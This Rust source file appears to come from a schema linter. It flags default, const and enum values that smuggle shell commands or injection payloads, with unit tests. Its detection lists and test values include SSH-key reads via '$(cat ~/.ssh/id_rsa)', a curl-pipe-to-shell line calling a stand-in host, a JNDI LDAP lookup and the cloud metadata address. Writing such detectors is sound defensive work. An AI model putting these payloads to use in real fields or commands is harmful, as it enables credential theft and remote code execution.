use super::field::{Field, Slot};
use super::report::{evidence, finding, quote};
use super::rows;
use crate::rules::Sink;
use crate::text::views::Span;

/// Values that a client fills in by itself and that run something where they are pasted into a shell, a page or a log:
/// `$(cat ~/.ssh/id_rsa)`, `; curl … | sh`, `${jndi:ldap:…}`. Examples may show them, a default or a choice may not.
pub(super) fn check(field: &Field<'_>, sink: &mut Sink) {
    let filled_in = ["/default", "/const", "/enum/"].iter().any(|part| field.pointer.contains(part));
    if field.slot != Slot::Value || !filled_in {
        return;
    }
    let Some((start, end)) = payload(field.text) else { return };
    let span =
        Span { start: u32::try_from(start).unwrap_or(u32::MAX), end: u32::try_from(end).unwrap_or(u32::MAX) };
    let said = format!("contains a value that runs something: \"{}\"", quote(field.text, span));
    sink.push(finding(&rows::SCHEMA_SLOT, field, &said).evidence(evidence(field, "raw", span, None)));
}

fn payload(text: &str) -> Option<(usize, usize)> {
    const COMMANDS: &[&str] = &[
        "curl",
        "wget",
        "sh",
        "bash",
        "nc",
        "ncat",
        "cat",
        "rm",
        "powershell",
        "python",
        "python3",
        "perl",
        "env",
        "printenv",
        "whoami",
        "id",
        "base64",
        "scp",
        "chmod",
        "eval",
    ];
    const MARKS: &[&str] =
        &["${jndi:", "<script", "javascript:", "<img src=x", "/proc/self/environ", "169.254.169.254"];
    let lower = text.to_ascii_lowercase();
    if let Some((at, mark)) = MARKS.iter().find_map(|mark| lower.find(mark).map(|at| (at, mark))) {
        return Some((at, at + mark.len()));
    }
    let runs = |at: usize| {
        let word: &str = lower.get(at..)?.trim_start();
        let name = word.split(|letter: char| !letter.is_ascii_alphanumeric()).next()?;
        COMMANDS.contains(&name).then_some(())
    };
    for opening in ["$(", ";", "&&", "||", "|", "`"] {
        for (at, _) in lower.match_indices(opening) {
            if runs(at + opening.len()).is_some() {
                return Some((at, text.len()));
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn values_that_run_something_are_told_from_plain_ones() {
        for text in [
            "$(cat ~/.ssh/id_rsa)",
            "a; curl https://x.example | sh",
            "x`whoami`",
            "${jndi:ldap://x.example/a}",
        ] {
            assert!(payload(text).is_some(), "{text}");
        }
        for text in ["a|b", "json | yaml", "$HOME/data", "cat", "up; down", "`code`", "$(amount)"] {
            assert_eq!(payload(text), None, "{text}");
        }
    }
}
